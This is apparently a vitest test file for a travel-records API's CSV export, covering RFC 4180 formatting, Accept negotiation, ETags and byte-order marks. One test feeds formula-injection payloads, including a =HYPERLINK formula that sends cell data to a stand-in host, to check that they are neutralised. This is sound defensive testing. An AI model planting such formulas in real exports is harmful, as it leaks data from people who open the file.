import { parse } from 'csv-parse/sync';
import { sql } from 'drizzle-orm';
import { describe, expect, it } from 'vitest';
import { acceptQuality, toCsv } from '../src/plugins/csv.js';
import { buildTestApp, locationOf, newParticipant, newTrip, PROBLEM, sqlExec, storable } from './helpers.js';

const CSV = 'text/csv; charset=utf-8';

/** Rows as objects keyed by the header row; every value is text. */
const rowsOf = (text: string): Record<string, string>[] => parse(text, { columns: true });
const headerOf = (text: string): string[] => (parse(text, { to_line: 1 }) as string[][])[0] ?? [];

describe('collections as CSV', () => {
  it('Accept: text/csv answers RFC 4180 CSV: a header row, a row per item, CRLF line ends', async () => {
    const { api } = await buildTestApp();
    const json = await api.get('/participants').expect(200);
    const res = await api.get('/participants').set('accept', 'text/csv').expect(200);
    expect(res.headers['content-type']).toBe(CSV);
    expect(res.headers.vary).toMatch(/\bAccept\b/);
    const rows = rowsOf(res.text);
    expect(rows).toHaveLength(13);
    expect(headerOf(res.text)).toEqual(Object.keys(json.body.data[0]));
    expect(rows.map((row) => row.name)).toEqual(json.body.data.map((p: { name: string }) => p.name));
    expect(rows.map((row) => Number(row.id))).toEqual(json.body.data.map((p: { id: number }) => p.id));
    const lines = res.text.split('\r\n');
    expect(lines).toHaveLength(13 + 2);
    expect(lines.at(-1)).toBe('');
    expect(res.text.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
  });

  it('null is an empty cell, a list of strings is joined with "; ", objects are their JSON', async () => {
    const { api } = await buildTestApp();
    const json = await api.get('/trips').expect(200);
    const res = await api.get('/trips').set('accept', 'text/csv').expect(200).expect('content-type', CSV);
    const [row] = rowsOf(res.text);
    const trip = json.body.data[0];
    expect(row?.id).toBe('1');
    expect(row?.topics).toBe(trip.topics.join('; '));
    expect(row?.topics).toContain('Venezuela; US leadership in the region; trade');
    expect(JSON.parse(row?.sources ?? '')).toEqual(trip.sources);
    expect(JSON.parse(row?.context ?? '')).toEqual(trip.context);
    const participants = rowsOf((await api.get('/participants').set('accept', 'text/csv').expect(200)).text);
    expect(participants.find((p) => p.name === 'Mauricio Macri')?.organization).toBe('');
  });

  it('quotes, commas and newlines in a value survive a round trip', async () => {
    const { api } = await buildTestApp();
    const name = 'Smith, "Jr."\nII';
    const created = await api.post('/participants').send(newParticipant({ name })).expect(201);
    expect(created.body.name).toBe(name);
    const res = await api.get('/participants').set('accept', 'text/csv').expect(200);
    const rows = rowsOf(res.text);
    expect(rows).toHaveLength(14);
    expect(rows.find((row) => row.id === String(created.body.id))?.name).toBe(name);
    expect(res.text).toContain('"Smith, ""Jr.""\nII"');
  });

  it('?format=csv answers CSV, and ?format=json wins over Accept', async () => {
    const { api } = await buildTestApp();
    const res = await api.get('/trips?format=csv').expect(200).expect('content-type', CSV);
    expect(rowsOf(res.text)[0]?.title).toMatch(/^Secretary Tillerson/);
    const json = await api.get('/trips?format=json').set('accept', 'text/csv').expect(200);
    expect(json.headers['content-type']).toMatch(/^application\/json/);
    expect(json.body.data).toHaveLength(1);
  });

  it('JSON stays the answer unless Accept prefers CSV', async () => {
    const { api } = await buildTestApp();
    const cases: [string | undefined, boolean][] = [
      [undefined, false],
      ['application/json', false],
      ['*/*', false],
      ['application/json, text/csv', false],
      ['text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8', false],
      ['text/csv;q=0.5, application/json', false],
      ['image/png', false],
      ['text/csv', true],
      ['application/json;q=0.5, text/csv', true],
      ['text/csv, */*;q=0.1', true],
    ];
    for (const [accept, csv] of cases) {
      const req = api.get('/trips/1/stops');
      const res = await (accept === undefined ? req : req.set('accept', accept)).expect(200);
      expect(res.headers['content-type'], accept).toBe(csv ? CSV : 'application/json; charset=utf-8');
    }
  });

  it('keeps the Link header of a page, and the rows are that page', async () => {
    const { api } = await buildTestApp();
    const res = await api.get('/participants?limit=5').set('accept', 'text/csv').expect(200);
    expect(res.headers['content-type']).toBe(CSV);
    expect(res.headers.link).toMatch(/rel="next"/);
    expect(rowsOf(res.text)).toHaveLength(5);
  });

  it('an empty collection still has its header row', async () => {
    const { api } = await buildTestApp();
    const trip = await api.post('/trips').send(newTrip(1)).expect(201);
    const stops = await api.get('/trips/1/stops').set('accept', 'text/csv').expect(200);
    const res = await api
      .get(`${locationOf(trip)}/stops`)
      .set('accept', 'text/csv')
      .expect(200);
    expect(res.headers['content-type']).toBe(CSV);
    expect(res.text).toBe(`${headerOf(stops.text).join(',')}\r\n`);
    expect(rowsOf(res.text)).toEqual([]);
  });

  it('CSV has its own ETag, answers 304 to it, and HEAD matches GET', async () => {
    const { api } = await buildTestApp();
    const json = await api.get('/participants').expect(200);
    // As it is (no content coding), so that HEAD's Content-Length is the text's length.
    const csv = await api
      .get('/participants')
      .set('accept', 'text/csv')
      .set('accept-encoding', 'identity')
      .expect(200);
    expect(csv.headers.etag).toMatch(/^"[^"]+"$/);
    expect(csv.headers.etag).not.toBe(json.headers.etag);
    await api
      .get('/participants')
      .set('accept', 'text/csv')
      .set('accept-encoding', 'identity')
      .set('if-none-match', csv.headers.etag as string)
      .expect(304);
    await api
      .get('/participants')
      .set('accept', 'text/csv')
      .set('if-none-match', json.headers.etag as string)
      .expect(200);
    const head = await api
      .head('/participants')
      .set('accept', 'text/csv')
      .set('accept-encoding', 'identity')
      .expect(200);
    expect(head.headers['content-type']).toBe(CSV);
    expect(head.headers.etag).toBe(csv.headers.etag);
    expect(head.headers['content-length']).toBe(String(Buffer.byteLength(csv.text)));
  });

  it('a single resource asked for as CSV answers its JSON; an error stays problem+json', async () => {
    const { api } = await buildTestApp();
    const res = await api.get('/trips/1').set('accept', 'text/csv').expect(200);
    expect(res.headers['content-type']).toBe('application/json; charset=utf-8');
    expect(res.body.id).toBe(1);
    const missing = await api.get('/trips/999/stops').set('accept', 'text/csv').expect(404);
    expect(missing.headers['content-type']).toMatch(PROBLEM);
    const bad = await api.get('/trips?format=xml').expect(400).expect('content-type', PROBLEM);
    expect(bad.body.errors[0].path).toBe('query.format');
  });
});

describe('CSV that spreadsheets open safely', () => {
  const HYPERLINK = '=HYPERLINK("http://example.invalid/?d="&A1,"x")';

  it('neutralises every cell that starts with a formula trigger (OWASP CSV Injection)', async () => {
    const t = await buildTestApp();
    const names = [HYPERLINK, '+1+1', '-2+3', '@SUM(A1:A2)', '＝1+1', 'A=1 is fine', "'quoted already"];
    const ids = new Map<string, number>();
    for (const name of names) {
      const res = await t.api.post('/participants').send(newParticipant({ name })).expect(201);
      expect(res.body.name).toBe(name);
      ids.set(name, res.body.id);
    }
    // Triggers the API's input would not keep (it trims the ends of names), as a row stored below it could hold.
    const raw = await t.api
      .post('/participants')
      .send(newParticipant({ name: 'placeholder' }))
      .expect(201);
    await sqlExec(t.app, sql`update participants set name = ${'\t=1+1'} where id = ${raw.body.id}`);

    const res = await t.api.get('/participants?limit=200&format=csv').expect(200).expect('content-type', CSV);
    const byId = new Map(rowsOf(res.text).map((row) => [Number(row.id), row]));
    expect(byId.get(ids.get(HYPERLINK) as number)?.name).toBe(`'${HYPERLINK}`);
    expect(res.text).toContain(`,"'=HYPERLINK(""http://example.invalid/?d=""&A1,""x"")",`);
    expect(byId.get(ids.get('+1+1') as number)?.name).toBe("'+1+1");
    expect(byId.get(ids.get('-2+3') as number)?.name).toBe("'-2+3");
    expect(byId.get(ids.get('@SUM(A1:A2)') as number)?.name).toBe("'@SUM(A1:A2)");
    expect(byId.get(ids.get('＝1+1') as number)?.name).toBe("'＝1+1");
    expect(byId.get(ids.get('A=1 is fine') as number)?.name).toBe('A=1 is fine');
    expect(byId.get(ids.get("'quoted already") as number)?.name).toBe("'quoted already");
    expect(byId.get(raw.body.id)?.name).toBe("'\t=1+1");
    // JSON is not a spreadsheet: the name stays as stored there.
    expect((await t.api.get(`/participants/${ids.get(HYPERLINK)}`).expect(200)).body.name).toBe(HYPERLINK);

    // Numbers stay numbers: a negative longitude is not a formula.
    const stops = rowsOf((await t.api.get('/trips/1/stops?format=csv').expect(200)).text);
    expect(stops.find((s) => s.city === 'Buenos Aires')?.longitude).toBe('-58.3816');
  });

  it('writes no raw CR or control character inside a value, whatever is stored', async () => {
    const t = await buildTestApp();
    const person = await t.api
      .post('/participants')
      .send(newParticipant({ name: 'placeholder' }))
      .expect(201);
    await sqlExec(
      t.app,
      sql`update participants set name = ${storable('first line\r\nsecond\u0000 line\rthird\u0015 line\u007f')},
        organization = ${'Tab\there\u0085'} where id = ${person.body.id}`,
    );
    const res = await t.api.get('/participants?limit=200&format=csv').expect(200);
    // Outside the CRLF that ends each record: LF (quoted, inside values) and tab, and no other control character.
    expect(res.text.replaceAll('\r\n', '')).not.toMatch(/(?![\t\n])\p{Cc}/u);
    const row = rowsOf(res.text).find((r) => Number(r.id) === person.body.id);
    expect(row?.name).toBe('first line\nsecond line\nthird line');
    expect(row?.organization).toBe('Tab\there');
  });

  it('has no column that is always empty: include-only fields are columns only when included', async () => {
    const t = await buildTestApp();
    const plain = await t.api.get('/trips?format=csv').expect(200);
    expect(headerOf(plain.text)).toEqual([
      'id',
      'title',
      'summary',
      'travelerId',
      'startDate',
      'endDate',
      'status',
      'topics',
      'context',
      'sources',
      'createdAt',
      'updatedAt',
      'version',
    ]);
    const included = await t.api.get('/trips?format=csv&include=traveler,stops').expect(200);
    const header = headerOf(included.text);
    expect(header.slice(-2)).toEqual(['traveler', 'stops']);
    const [row] = rowsOf(included.text);
    expect(JSON.parse(row?.traveler ?? '').name).toBe('Rex Tillerson');
    expect(JSON.parse(row?.stops ?? '')).toHaveLength(7);
    // The same holds for stops (`meetings` comes with include=meetings).
    expect(headerOf((await t.api.get('/trips/1/stops?format=csv').expect(200)).text)).not.toContain(
      'meetings',
    );
  });

  it('search results carry plain text, not <mark> HTML', async () => {
    const t = await buildTestApp();
    const json = await t.api.get('/search?q=macri').expect(200);
    expect(json.body.data[0].snippet).toBe('Mauricio <mark>Macri</mark>');
    const res = await t.api.get('/search?q=macri&format=csv').expect(200).expect('content-type', CSV);
    const rows = rowsOf(res.text);
    // Each CSV snippet is the JSON snippet with its marks taken out, row for row.
    expect(rows.map((r) => r.snippet)).toEqual(
      json.body.data.map((hit: { snippet: string }) => hit.snippet.replace(/<\/?mark>/g, '')),
    );
    expect(rows.map((r) => r.snippet)[1]).toBe(
      'Meeting with President Mauricio Macri on Monday morning, 5 February, wrapping up the Argentine leg before…',
    );
    expect(res.text).not.toMatch(/<\/?mark>/);
    // The snippet's HTML escapes are read back too.
    await t.api
      .post('/participants')
      .send(newParticipant({ name: 'Tom & "Jerry" <b>Zylberstein</b> O\'Neill' }))
      .expect(201);
    const escaped = await t.api.get('/search?q=zylberstein').expect(200);
    expect(escaped.body.data[0].snippet).toContain('&amp; &quot;Jerry&quot; &lt;b&gt;<mark>');
    const plain = rowsOf((await t.api.get('/search?q=zylberstein&format=csv').expect(200)).text);
    expect(plain[0]?.snippet).toBe('Tom & "Jerry" <b>Zylberstein</b> O\'Neill');
  });

  it('?bom=true starts the CSV with a UTF-8 byte-order mark, for Excel', async () => {
    const t = await buildTestApp();
    const bytes = async (path: string) => {
      const res = await t.api
        .get(path)
        // The bytes as they are: the lengths compared below are those of the text, not of a gzip body.
        .set('accept-encoding', 'identity')
        .buffer(true)
        .parse((response, done) => {
          const chunks: Buffer[] = [];
          response.on('data', (chunk: Buffer) => chunks.push(chunk));
          response.on('end', () => done(null, Buffer.concat(chunks)));
        })
        .expect(200);
      return { res, body: res.body as Buffer };
    };
    const without = await bytes('/participants?format=csv');
    const withBom = await bytes('/participants?format=csv&bom=true');
    expect([...withBom.body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(withBom.body.subarray(3).equals(without.body)).toBe(true);
    expect(without.body[0]).toBe('i'.charCodeAt(0));
    expect(withBom.res.headers['content-type']).toBe(CSV);
    expect(withBom.res.headers['content-length']).toBe(String(without.body.length + 3));
    expect(withBom.res.headers.etag).not.toBe(without.res.headers.etag);
    // Accents read back as UTF-8 after the mark.
    expect(withBom.body.subarray(3).toString('utf8')).toContain('Peña Nieto');
    expect((await bytes('/participants?format=csv&bom=false')).body.equals(without.body)).toBe(true);
    // JSON has no byte-order mark (RFC 8259 §8.1 forbids one).
    const json = await bytes('/participants?bom=true');
    expect(json.body[0]).toBe('{'.charCodeAt(0));
    const bad = await t.api
      .get('/participants?format=csv&bom=yes')
      .expect(400)
      .expect('content-type', PROBLEM);
    expect(bad.body.errors[0].path).toBe('query.bom');
  });
});

describe('CSV building blocks', () => {
  it('columns are the known ones, then other keys in first-seen order', () => {
    const csv = toCsv(
      [
        { b: 1, a: [{ x: 1 }] },
        { c: true, a: [] },
      ],
      { knownColumns: ['a'] },
    );
    expect(csv).toBe('a,b,c\r\n"[{""x"":1}]",1,\r\n,,true\r\n');
    expect(toCsv([1, 2])).toBeUndefined();
    expect(toCsv([])).toBe('');
  });

  it('Accept quality comes from the most specific matching range', () => {
    expect(acceptQuality('text/*;q=0.3, text/csv;q=0.7, */*;q=0.1', 'text/csv')).toBe(0.7);
    expect(acceptQuality('text/*;q=0.3, */*;q=0.1', 'text/csv')).toBe(0.3);
    expect(acceptQuality('text/*;q=0.3, */*;q=0.1', 'application/json')).toBe(0.1);
    expect(acceptQuality('TEXT/CSV', 'text/csv')).toBe(1);
    expect(acceptQuality('image/png', 'text/csv')).toBe(0);
  });
});
